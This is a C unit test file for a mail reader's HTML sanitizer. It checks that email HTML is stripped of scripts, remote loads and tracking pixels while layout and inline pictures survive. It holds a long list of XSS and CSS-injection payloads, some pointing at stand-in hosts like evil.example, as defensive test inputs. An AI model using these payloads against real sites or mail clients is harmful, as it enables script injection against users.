/* test_reader_safe.c - HTML of mail becomes harmless, and stays what it was. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "fx_safe.h"
#include "mailsled/reader.h"

#define COUNT(list) (sizeof(list) / sizeof((list)[0]))

/* A picture whose id begins with "x" is not there. */
static bool
find_picture(void *ctx, const char *cid, struct sled_buf *url,
             struct sled_err *err)
{
	(void)ctx;
	return *cid == 'x' ||
	       sled_buf_printf(url, err, FX_SAFE_PICTURE "%s", cid);
}

/* The document made of HTML, judged; a caller frees it. */
static struct sled_buf
make_safe(struct sled_span html, struct sled_html_safe *how)
{
	struct sled_buf out = { 0 };
	struct sled_err err = { 0 };
	const char *fault;

	*how = (struct sled_html_safe){ .picture = find_picture };
	assert_true(sled_html_safe(&out, html, how, &err));
	fault = fx_safe_fault(sled_buf_span(&out));
	if (fault != NULL)
		fail_msg("%s in: %.300s\nof: %.300s", fault, out.data,
		         html.data);
	return out;
}

static struct sled_span
span_of(const char *text)
{
	return (struct sled_span){ text, strlen(text) };
}

/* What stands in the body of the document made of HTML is WANTED. */
static void
assert_body(const char *html, const char *wanted)
{
	struct sled_html_safe how;
	struct sled_buf out = make_safe(span_of(html), &how);
	char *body = strstr(out.data, "</style></head>\n<body");
	size_t len = strlen("\n</body></html>\n");

	assert_non_null(body);
	body += strlen("</style></head>\n<body");
	assert_string_equal(out.data + out.len - len, "\n</body></html>\n");
	out.data[out.len - len] = '\0';
	assert_string_equal(body, wanted);
	sled_buf_free(&out);
}

/* The document made of HTML has THERE, and has not ABSENT (or NULL). */
static struct sled_html_safe
assert_has(const char *html, const char *there, const char *absent)
{
	struct sled_html_safe how;
	struct sled_buf out = make_safe(span_of(html), &how);

	if (strstr(out.data, there) == NULL)
		fail_msg("no %s in: %s", there, out.data);
	if (absent != NULL && strstr(out.data, absent) != NULL)
		fail_msg("%s in: %s", absent, out.data);
	sled_buf_free(&out);
	return how;
}

/* ---- what runs ---- */

/* Each of them got past a filter of some program once, or is of that kind.
 * fx_safe_fault() judges what comes out. */
static const char *const attacks[] = {
	"<script>alert(1)</script>",
	"<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
	"<scr<script>ipt>alert(1)</scr</script>ipt>",
	"<script/src=//evil.example></script>",
	"<script\x0b>alert(1)</script>",
	"<script>alert(1)</script",
	"<script >alert(1)</script \n>",
	"<<script>alert(1);//<</script>",
	"<img src=x onerror=alert(1)>",
	"<img src=\"x\"onerror=alert(1)>",
	"<img src=x onerror\n=\nalert(1)>",
	"<img/src=x/onerror=alert(1)>",
	"<img src=`x` onerror=alert(1)>",
	"<img src='x\"' onerror='alert(1)'>",
	"<img \"\"\"><script>alert(1)</script>\">",
	"<img src=x:x onerror&#x3d;alert(1)>",
	"<IMG SRC=javascript:alert(&quot;1&quot;)>",
	"<img src=\"jav\tascript:alert(1)\">",
	"<img src=\"jav&#x09;ascript:alert(1)\">",
	"<img src=\"jav&#x0A;ascript:alert(1)\">",
	"<img src=\" &#14; javascript:alert(1)\">",
	"<img src=&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58&#97>",
	"<img src=&#0000106&#0000097&#0000118&#0000097&#0000115>",
	"<a href=\"javascript:alert(1)\">x</a>",
	"<a href=\"JaVaScRiPt:alert(1)\">x</a>",
	"<a href=\"java\nscript:alert(1)\">x</a>",
	"<a href=\"java&Tab;script&colon;alert(1)\">x</a>",
	"<a href=\"\x01javascript:alert(1)\">x</a>",
	"<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72:alert(1)\">x</a>",
	"<a href='vbscript:msgbox(1)'>x</a>",
	"<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
	"<a href='http:evil'>x</a><a href='https:/evil'>x</a>",
	"<a href='/settings?drop=1'>x</a><a href='?x'>x</a><a href=x>x</a>",
	"<a href=\"http://x/\" onclick=alert(1) onmouseover='alert(1)'>x</a>",
	"<a href=\"http://x/'><script>alert(1)</script>\">x</a>",
	"<a href='http://x/\"><img src=x onerror=alert(1)>'>x</a>",
	"<a target=_self rel=opener href=http://x>x</a>",
	"<a ping=http://evil href=http://x download=x>x</a>",
	"<body onload=alert(1) background=javascript:alert(1)>",
	"<BODY ONLOAD =alert(1)><body onload=alert(2)>",
	"<svg/onload=alert(1)>",
	"<svg><script>alert(1)</script></svg>",
	"<svg><style><img src=x onerror=alert(1)></style></svg>",
	"<svg><style><!--</style><img src=x onerror=alert(1)>--></style>",
	"<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
	"<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
	"<svg><animate attributeName=href values=javascript:alert(1) />",
	"<svg><foreignObject><iframe srcdoc='x'></foreignObject></svg>",
	"<svg><use href=\"data:image/svg+xml,<svg id='x'/>#x\" /></svg>",
	"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;"
	"&lt;img src=1 onerror=alert(1)&gt;\">",
	"<math><annotation-xml encoding=text/html><script>alert(1)</script>",
	"<math href=\"javascript:alert(1)\">x</math>",
	"<form><math><mtext></form><form><mglyph><style></math>"
	"<img src onerror=alert(1)>",
	"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
	"<textarea></textarea><img src=x onerror=alert(1)></textarea>",
	"<title><p title=\"</title><img src=x onerror=alert(1)>\"></title>",
	"<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
	"<plaintext><img src=x onerror=alert(1)>",
	"<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
	"<noembed><img title=\"</noembed><img src onerror=alert(1)>\">",
	"<template><script>alert(1)</script></template>",
	"<select><template><style><!--</style><a rel=\"--></style></template>"
	"</select><img src onerror=alert(1)>\">",
	"<option><style></option></select><img src=x onerror=alert(1)></style>",
	"<style><style /><img src=x onerror=alert(1)>",
	"<style>*{x:'</style><script>alert(1)</script>'}</style>",
	"<style></sty</style>le><img src=x onerror=alert(1)></style>",
	"<!--><script>alert(1)</script>-->",
	"<!---><img src=x onerror=alert(1)>-->",
	"<!--a--!><img src=x onerror=alert(1)>-->",
	"<!-- --!> <script>alert(1)</script> -->",
	"<!-->--<img src=x onerror=alert(1)>",
	"<![CDATA[<script>alert(1)</script>]]>",
	"<![if !mso]><script>alert(1)</script><![endif]>",
	"<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
	"<?xml version=\"1.0\"?><?php x ?><? <script>alert(1)</script> ?>",
	"<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>&x;",
	"<% <script>alert(1)</script> %>",
	"</<script>alert(1)</script>",
	"</p onmouseover=alert(1)>",
	"<p/onclick=alert(1)>x</p><p\x0conclick=alert(1)>",
	"<p title='&quot;><script>alert(1)</script>'>x",
	"<p title=\"`onmouseover=alert(1)\">x",
	"<p id=a name=b style='x' class=\"x\" contenteditable tabindex=1 "
	"autofocus onfocus=alert(1) accesskey=x draggable=true is=x slot=x>",
	"<div id=\"<script>\" class='\"><script>' lang='\"x'>x</div>",
	"<iframe src=javascript:alert(1)></iframe><iframe srcdoc='<script>'>",
	"<iframe/src=\"data:text/html,<script>alert(1)</script>\">",
	"<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
	"<object data=javascript:alert(1)><param name=x value=y></object>",
	"<object type=text/x-scriptlet data=http://evil/x></object>",
	"<embed src=javascript:alert(1) allowscriptaccess=always>",
	"<applet code=x archive=http://evil/x></applet>",
	"<audio src=x onerror=alert(1)><video poster=javascript:alert(1)>"
	"<source onerror=alert(1)></video>",
	"<input type=image src=javascript:alert(1) onfocus=alert(1) autofocus>",
	"<isindex type=image src=1 onerror=alert(1) action=javascript:alert(1)>",
	"<button formaction=javascript:alert(1)>x</button>",
	"<form action=javascript:alert(1)><input type=submit></form>",
	"<form id=x></form><button form=x formaction=//evil>x</button>",
	"<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
	"<meta http-equiv=Content-Security-Policy content=\"img-src *\">",
	"<meta http-equiv=Set-Cookie content=a=b>",
	"<base href=http://evil/><base target=_top>",
	"<link rel=stylesheet href=http://evil/x.css>",
	"<link rel=import href=data:text/html,x><link rel=prefetch href=//e>",
	"<bgsound src=javascript:alert(1)><keygen autofocus onfocus=alert(1)>",
	"<marquee onstart=alert(1)>x</marquee><blink>x</blink>",
	"<details open ontoggle=alert(1)>x</details>",
	"<dialog open onclose=alert(1)>x</dialog>",
	"<table background=javascript:alert(1)><td background=//evil/x>",
	"<layer src=http://evil></layer><ilayer src=//evil>",
	"<xml id=x><i><b>&lt;img src=x onerror=alert(1)&gt;</b></i></xml>"
	"<span datasrc=#x datafld=b dataformatas=html></span>",
	"<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
	"<html xmlns:v=x><v:image src=javascript:alert(1)></v:image>",
	"<map name=x><area href=javascript:alert(1)></map><img usemap=#x>",
	"<img srcset='//evil/x 1x' longdesc=//evil dynsrc=//evil lowsrc=//e>",
	"<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
	"<img src=\"data:text/html,<script>alert(1)</script>\">",
	"<img src=\"data:image/png,<script>alert(1)</script>\">",
	"<img src=\"data:image/png;base64,AA==\" onload=alert(1)>",
	"<img src='cid:\"><script>alert(1)</script>'>",
	"<img src='cid:%22%3E%3Cscript%3E'>",
	"<img src='cid:a' alt='\"><script>' title='</title>' width='1\"x'>",
	"<a href=http://x/\xe2\x80\xae"
	"exe.gpj>x</a>",
	"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
	"\xbcscript\xbe"
	"alert(1)\xbc/script\xbe",
	"<p>\xff\xfe\xc3\x28\xf8\xa1\xa1\xa1\xa1</p>",
	"<a href=\"http://x/\xc3\">\xc3</a><p title=\"\xf0\x9f\">",
	"<a href=\"mailto:x?body=%3Cscript%3E&#x22;onclick=1\">x</a>",
	"<p title='a",
	"<a href=\"http://x",
	"<",
	"</",
	"<!",
	"<!-",
	"<a",
	"&#0;&#x110000;&#xD800;&#xFFFE;&bogus;&#;&#x;&",
};

static void
no_attack_comes_through(void **state)
{
	(void)state;
	for (size_t i = 0; i < COUNT(attacks); i++) {
		struct sled_html_safe how;
		struct sled_buf out = make_safe(span_of(attacks[i]), &how);

		sled_buf_free(&out);
	}
}

/* Inside of what opens a context, cut off at each octet. */
static void
nor_when_it_is_cut_or_wrapped(void **state)
{
	static const char *const around[] = {
		"<table><tr><td>%s",
		"<p title=\"%s\">",
		"<p title='%s'>",
		"<a href=%s>x</a>",
		"<!--%s-->",
		"<style>%s</style>",
		"<select><option>%s",
		"<svg><desc>%s</desc></svg>",
		"<p style=\"%s\">x</p>",
		"<title>%s</title>",
		"<textarea>%s</textarea>",
		"<img src=\"%s\">",
	};
	struct sled_html_safe how;

	(void)state;
	for (size_t i = 0; i < COUNT(attacks); i++)
		for (size_t j = 0; j < COUNT(around); j++) {
			struct sled_buf html = { 0 }, out;
			struct sled_err err = { 0 };
			const char *at = strstr(around[j], "%s");

			assert_true(sled_buf_add(&html, around[j],
			                         (size_t)(at - around[j]),
			                         &err) &&
			            sled_buf_addstr(&html, attacks[i], &err) &&
			            sled_buf_addstr(&html, at + 2, &err));
			out = make_safe(sled_buf_span(&html), &how);
			sled_buf_free(&out);
			sled_buf_free(&html);
		}
	for (size_t i = 0; i < COUNT(attacks); i++)
		for (size_t n = 0; n < strlen(attacks[i]); n++) {
			struct sled_buf out = make_safe(
			    (struct sled_span){ attacks[i], n }, &how);

			sled_buf_free(&out);
		}
}

static void
octets_that_are_no_text_are_harmless(void **state)
{
	static const char html[] = "<scr\0ipt>alert(1)</scr\0ipt><im\0g "
				   "src=x on\0error=alert(1)>\0<\0script>";
	struct sled_html_safe how;
	struct sled_buf out =
	    make_safe((struct sled_span){ html, sizeof(html) - 1 }, &how);

	(void)state;
	assert_null(memchr(out.data, '\0', out.len));
	sled_buf_free(&out);
	out = make_safe((struct sled_span){ "", 0 }, &how);
	sled_buf_free(&out);
}

static void
what_runs_is_counted(void **state)
{
	struct sled_html_safe how = assert_has(
	    "<script>1</script><p onclick=x>a<a href=javascript:x>b</a>"
	    "<form action=//x><input></form><iframe src=//x></iframe><svg>",
	    "ab", "script>");

	(void)state;
	assert_int_equal(how.scripts, 3);
	assert_int_equal(how.forms, 1);
	assert_int_equal(how.embeds, 2);
	assert_int_equal(how.pictures, 0);
	assert_false(how.cut);
}

/* ---- what loads ---- */

static void
a_picture_elsewhere_leaves_a_box_with_its_host(void **state)
{
	struct sled_html_safe how;

	(void)state;
	assert_body("<img src=\"http://ada:x@Pics.example.org:81/a.png?u=1\">",
	            ">\n<span class=\"sled-picture\" "
	            "title=\"http://ada:x@Pics.example.org:81/a.png?u=1\">"
	            "(picture at Pics.example.org:81)</span>");
	assert_body("<img src=//p.example/a width=80 height=40 alt='A \"b\"'>",
	            ">\n<span class=\"sled-picture sled-sized\" "
	            "style=\"width:80px;height:40px\" "
	            "title=\"https://p.example/a\">A &quot;b&quot; "
	            "(picture at p.example)</span>");
	how = assert_has("<img src=http://a/1><table background=http://a/2>"
	                 "<td style='background:url(http://a/3)'>x",
	                 "sled-picture", "a/2");
	assert_int_equal(how.pictures, 3);
	assert_int_equal(how.trackers, 0);
}

static void
a_tracker_leaves_nothing(void **state)
{
	struct sled_html_safe how =
	    assert_has("<p>a</p><img src=http://t.example/1 width=1 height=1>"
	               "<img src=http://t.example/2 height=0>"
	               "<img src=http://t.example/3 style='display : none'>",
	               "<p>a</p>", "t.example");

	(void)state;
	assert_int_equal(how.pictures, 3);
	assert_int_equal(how.trackers, 3);
}

static void
what_holds_a_place_goes_on_holding_it(void **state)
{
	(void)state;
	assert_body("<img src=http://p.example/gap.gif width=300 height=1>",
	            ">\n<span class=\"sled-gap\" "
	            "style=\"width:300px;height:1px\"></span>");
	assert_body("<img src=http://p.example/icon width=16 height=16 alt=Go>",
	            ">\n<span class=\"sled-picture sled-sized\" "
	            "style=\"width:16px;height:16px\" "
	            "title=\"http://p.example/icon\"></span>");
}

static void
pictures_of_the_message_stay(void **state)
{
	(void)state;
	assert_body(
	    "<img src=\"cid:logo%40example.org\" alt=L width=9 border=0>",
	    ">\n<img src=\"/part/logo@example.org\" alt=\"L\" "
	    "width=\"9\" border=\"0\">");
	assert_body("<img src=\"CID:a b\">", ">\n<img src=\"/part/a b\">");
	assert_body("<img src=\"cid:%c3%28\">",
	            ">\n<img src=\"/part/\ufffd(\">");
	assert_body("<img src=cid:x1 alt=Logo>",
	            ">\n<span class=\"sled-picture\">Logo (no picture)</span>");
	assert_body("<img src=\"data:image/PNG;base64,iVBO\n RK==\">",
	            ">\n<img src=\"data:image/PNG;base64,iVBORK==\">");
	assert_body("<img src='data:image/svg+xml;base64,AAAA'>",
	            ">\n<span class=\"sled-picture\">(no picture)</span>");
}

static void
a_message_without_pictures_asks_for_none(void **state)
{
	struct sled_html_safe how = { 0 };
	struct sled_buf out = { 0 };
	struct sled_err err = { 0 };

	(void)state;
	assert_true(
	    sled_html_safe(&out, span_of("<img src=cid:a>"), &how, &err));
	assert_non_null(strstr(out.data, "(no picture)"));
	sled_buf_free(&out);
}

/* ---- links ---- */

static void
links_lead_to_pages_and_mailboxes(void **state)
{
	static const char *const none[] = { "ftp://x/",
		                            "file:///etc/passwd",
		                            "x",
		                            "/x",
		                            "http:x",
		                            "tel:1",
		                            "about:blank",
		                            "blob:http://x/",
		                            "intent://x/",
		                            "cid:x",
		                            "mid:x",
		                            "view-source:http://x",
		                            "filesystem:x:",
		                            "" };

	(void)state;
	assert_body(
	    "<a href=' http://x.example/?a=1&amp;b=2 ' title=bank>t</a>",
	    ">\n<a href=\"http://x.example/?a=1&amp;b=2\" "
	    "title=\"http://x.example/?a=1&amp;b=2\" target=\"_blank\" "
	    "rel=\"noreferrer noopener\">t</a>");
	assert_body("<a href='ht\ntps://x/a b'>t</a>",
	            ">\n<a href=\"https://x/a%20b\" title=\"https://x/a%20b\" "
	            "target=\"_blank\" rel=\"noreferrer noopener\">t</a>");
	assert_has("<a href=MAILTO:ada@example.org>t</a>",
	           "href=\"MAILTO:ada@example.org\"", NULL);
	assert_body("<a href='#top'>t</a><p id=top>",
	            ">\n<a href=\"#m-top\">t</a><p id=\"m-top\"></p>");
	for (size_t i = 0; i < COUNT(none); i++) {
		struct sled_buf html = { 0 };
		struct sled_err err = { 0 };

		assert_true(sled_buf_printf(&html, &err, "<a href=\"%s\">t</a>",
		                            none[i]));
		assert_body(html.data, ">\n<a>t</a>");
		sled_buf_free(&html);
	}
}

/* ---- styles ---- */

static void
styles_keep_what_is_harmless(void **state)
{
	static const char *const cases[][2] = {
		{ "color: RED; font-size:12PX", "color:RED;font-size:12PX;" },
		{ "COLOR:#fff!important", "color:#fff!important;" },
		{ "font-family:\"Gill Sans\",Arial",
		  "font-family:&#39;Gill Sans&#39;,Arial;" },
		{ "width:calc(100% - 2px)", "width:calc(100% - 2px);" },
		{ "color:rgba(1,2,3,.5)", "color:rgba(1,2,3,.5);" },
		{ "margin:-1px auto 0/**/2em", "margin:-1px auto 0 2em;" },
		{ "background:#fff url(http://x/a.png) no-repeat",
		  "background:#fff  no-repeat;" },
		{ "background-image:linear-gradient(90deg,#fff,rgb(1,2,3))",
		  "background-image:linear-gradient(90deg,#fff,rgb(1,2,3));" },
		{ "a:b;;color:red", "color:red;" },
		{ "color:red;font:12px/1.2 'a b'",
		  "color:red;font:12px/1.2 &#39;a b&#39;;" },
	};

	(void)state;
	for (size_t i = 0; i < COUNT(cases); i++) {
		struct sled_buf html = { 0 }, wanted = { 0 };
		struct sled_err err = { 0 };

		assert_true(sled_buf_printf(&wanted, &err,
		                            ">\n<p style=\"%s\"></p>",
		                            cases[i][1]) &&
		            sled_buf_addstr(&html, "<p style='", &err));
		for (const char *at = cases[i][0]; *at != '\0'; at++)
			assert_true(*at == '\''
			                ? sled_buf_addstr(&html, "&#39;", &err)
			                : sled_buf_add(&html, at, 1, &err));
		assert_true(sled_buf_addstr(&html, "'>", &err));
		assert_body(html.data, wanted.data);
		sled_buf_free(&html);
		sled_buf_free(&wanted);
	}
}

static const char *const bad_styles[] = {
	"position:fixed;top:0;left:0;z-index:9",
	"background:url(javascript:alert(1))",
	"background:URL( &quot;http://x/&quot; )",
	"background:u\\72l(http://x/)",
	"background:\\75\\72\\6c(http://x/)",
	"background:ur/**/l(http://x/)",
	"background:url(http://x/",
	"background:image-set(&quot;http://x/&quot; 1x)",
	"background:-webkit-image-set(url(http://x/) 1x)",
	"background:image(&quot;http://x/&quot;)",
	"background:element(#x)",
	"background-image:src(&quot;http://x/&quot;)",
	"background-image:cross-fade(url(http://x/),red)",
	"list-style-image:url(http://x/)",
	"content:url(http://x/)",
	"cursor:url(http://x/),auto",
	"border-image:url(http://x/)",
	"filter:url(http://x/#f)",
	"mask:url(http://x/)",
	"clip-path:url(http://x/)",
	"width:1/url(x)*2;color:red/*http*/",
	"width:1//http",
	"width:expression(alert(1))",
	"width:exp/**/ression(alert(1))",
	"width:e\\xpression(alert(1))",
	"wid\\74h:1px",
	"behavior:url(x.htc)",
	"-moz-binding:url(http://x/#y)",
	"-o-link:&#39;javascript:alert(1)&#39;;-o-link-source:current",
	"animation:x 1s;transition:all 9s",
	"transform:translate(-99px)",
	"color:var(--x);--x:url(http://x/)",
	"color:attr(x)",
	"color:env(x)",
	"font-family:&#39;a;b:url(http://x/)&#39;",
	"font-family:&#39;\\&#39;;color:red",
	"font-family:&quot;</style><script>&quot;",
	"@import url(http://x/)",
	"color:red}*{position:fixed",
	"}</style><script>alert(1)</script>",
	"color:<!--red",
	"color",
	":red",
	"color:",
	"color:((((((((((((((((((((((((1))))))))))))))))))))))))",
};

static void
styles_load_nothing_and_leave_no_place(void **state)
{
	(void)state;
	for (size_t i = 0; i < COUNT(bad_styles); i++) {
		struct sled_buf html = { 0 };
		struct sled_html_safe how;
		struct sled_err err = { 0 };
		struct sled_buf out;
		char *body;

		assert_true(sled_buf_printf(&html, &err, "<p style=\"%s\">x",
		                            bad_styles[i]));
		out = make_safe(sled_buf_span(&html), &how);
		body = strstr(out.data, "<body");
		assert_non_null(body);
		assert_null(strstr(body, "position"));
		assert_null(strstr(body, "http"));
		assert_null(strstr(body, "alert"));
		sled_buf_free(&out);
		sled_buf_free(&html);
	}
}

static void
sheets_are_held_to_the_same(void **state)
{
	static const char *const bad[] = {
		"@import 'http://x/';",
		"@import url(http://x/);",
		"@\\69mport 'http://x/';",
		"@font-face{font-family:x;src:url(http://x/)}",
		"@media screen{@import url(http://x/);}",
		"@media url(http://x/){p{color:red}}",
		"@charset 'utf-7';@namespace x url(http://x/);",
		"@supports (x:url(http://x/)){p{color:red}}",
		"p{background:url('http://x/')}",
		"p[title^='a']{background:url(http://x/a)}",
		"p{position:fixed}",
		"p{color:red;}}}@import 'http://x/';",
		"p{color:'</style><b>http'}",
		"p:has(http){color:red}",
		"p::before{content:'http'}",
		"{}}{{}@media{{{http",
		"/* */ /*/ http { color:red } /* */",
	};

	(void)state;
	for (size_t i = 0; i < COUNT(bad); i++) {
		struct sled_buf html = { 0 };
		struct sled_err err = { 0 };

		assert_true(sled_buf_printf(
		    &html, &err, "<style>%s</style><p>x</p>", bad[i]));
		assert_has(html.data, "<p>x</p>", "http:");
		sled_buf_free(&html);
	}
	assert_has("<style><!-- p.a > b, #c:hover, d[e] {color:red;x:y} -->"
	           "</style>",
	           "}\np.m-a > b,#m-c:hover{color:red;}\n</style>", "d[e]");
	assert_has("<style>@media screen and (max-width:600px){.a{width:1px "
	           "!important}}@font-face{x:y}p{margin:0}</style>",
	           "@media screen and (max-width:600px){\n.m-a{width:1px "
	           "!important;}\n}\np{margin:0;}\n",
	           "font-face");
}

/* What gives no colour takes those of a dark screen; what does is on white. */
static void
a_message_of_no_colour_takes_the_screen_s(void **state)
{
	static const char *const coloured[] = {
		"<body bgcolor=white>", "<p style='color:red'>",
		"<font color=red>", "<style>p{background:#eee}</style>"
	};

	(void)state;
	assert_has("<p style='font-size:9px'>a", "{color-scheme:light dark;",
	           "{color-scheme:light;");
	for (size_t i = 0; i < COUNT(coloured); i++)
		assert_has(coloured[i], "{color-scheme:light;background:#fff",
		           "light dark");
}

/* ---- what stays ---- */

static void
a_letter_stays_as_it_was(void **state)
{
	(void)state;
	assert_body("<html><head><title>t</title></head><body bgcolor=#eeeeee "
	            "style='margin:0' class=c><h1 align=center>H</h1>"
	            "<table width=\"100%\" cellpadding=0 border=0><tr><td "
	            "colspan=2 valign=top nowrap>a<br>b</td></tr></table>"
	            "<ol start=3 type=a><li>x</ol><hr><pre> 1\n 2</pre>"
	            "<font face=\"Arial, x\" size=+1 color=red>c</font></body>",
	            " bgcolor=\"#eeeeee\" style=\"margin:0;\" class=\"m-c\">\n"
	            "<h1 align=\"center\">H</h1><table width=\"100%\" "
	            "cellpadding=\"0\" border=\"0\"><tr><td colspan=\"2\" "
	            "valign=\"top\" nowrap=\"nowrap\">a<br>b</td></tr></table>"
	            "<ol start=\"3\" type=\"a\"><li>x</li></ol><hr><pre> 1\n 2"
	            "</pre><font face=\"Arial, x\" size=\"+1\" color=\"red\">c"
	            "</font>");
	assert_body("<o:p>a</o:p><button>b</button><noscript>c</noscript>"
	            "<marquee>d</marquee>",
	            ">\nabcd");
	assert_body("<p>Gr\xc3\xbc\xc3\x9f"
	            "e &euro; &amp;lt; &lt;b&gt;",
	            ">\n<p>Gr\u00fc\u00dfe \u20ac &amp;lt; &lt;b&gt;</p>");
}

/* ---- what never ends ---- */

/* The text of it, for the index, ends as soon. */
static void
read_text(struct sled_span html)
{
	const struct sled_html_want want = { true, SIZE_MAX };
	struct sled_buf text = { 0 };
	struct sled_err err = { 0 };

	assert_true(sled_html_text(&text, html, &want, &err));
	sled_buf_free(&text);
}

static struct sled_html_safe
make_many(const char *first, const char *more, size_t times, const char *last)
{
	struct sled_buf html = { 0 }, out;
	struct sled_html_safe how;
	struct sled_err err = { 0 };

	assert_true(sled_buf_addstr(&html, first, &err));
	for (size_t i = 0; i < times; i++)
		assert_true(sled_buf_addstr(&html, more, &err));
	assert_true(sled_buf_addstr(&html, last, &err));
	out = make_safe(sled_buf_span(&html), &how);
	read_text(sled_buf_span(&html));
	sled_buf_free(&out);
	sled_buf_free(&html);
	return how;
}

static void
what_never_ends_is_cut(void **state)
{
	struct sled_buf many = { 0 };
	struct sled_err err = { 0 };

	(void)state;
	assert_true(make_many("", "<i>", 500000, "").cut);
	assert_true(make_many("", "<i></b></b>", 100000, "").cut);
	assert_true(make_many("", "<img src=//a>", 300000, "").cut);
	assert_true(make_many("", "&quot;", 3000000, "").cut);
	for (int i = 0; i < 100000; i++)
		assert_true(sled_buf_printf(&many, &err, " a%d", i));
	assert_true(make_many("<a", many.data, 1, ">").cut);
	sled_buf_free(&many);
	assert_false(make_many("", "<p>x</p>", 50000, "").cut);
	assert_false(make_many("", "<div>", 400, "x").cut);
	assert_false(make_many("<p title='", "a b=", 5000, "'>").cut);
	assert_false(make_many("<style>", "a,{/*", 100000, "").cut);
	assert_false(make_many("<p style='", "color:(((", 100000, "'>").cut);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(no_attack_comes_through),
		cmocka_unit_test(nor_when_it_is_cut_or_wrapped),
		cmocka_unit_test(octets_that_are_no_text_are_harmless),
		cmocka_unit_test(what_runs_is_counted),
		cmocka_unit_test(
		    a_picture_elsewhere_leaves_a_box_with_its_host),
		cmocka_unit_test(a_tracker_leaves_nothing),
		cmocka_unit_test(what_holds_a_place_goes_on_holding_it),
		cmocka_unit_test(pictures_of_the_message_stay),
		cmocka_unit_test(a_message_without_pictures_asks_for_none),
		cmocka_unit_test(links_lead_to_pages_and_mailboxes),
		cmocka_unit_test(styles_keep_what_is_harmless),
		cmocka_unit_test(styles_load_nothing_and_leave_no_place),
		cmocka_unit_test(sheets_are_held_to_the_same),
		cmocka_unit_test(a_message_of_no_colour_takes_the_screen_s),
		cmocka_unit_test(a_letter_stays_as_it_was),
		cmocka_unit_test(what_never_ends_is_cut),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
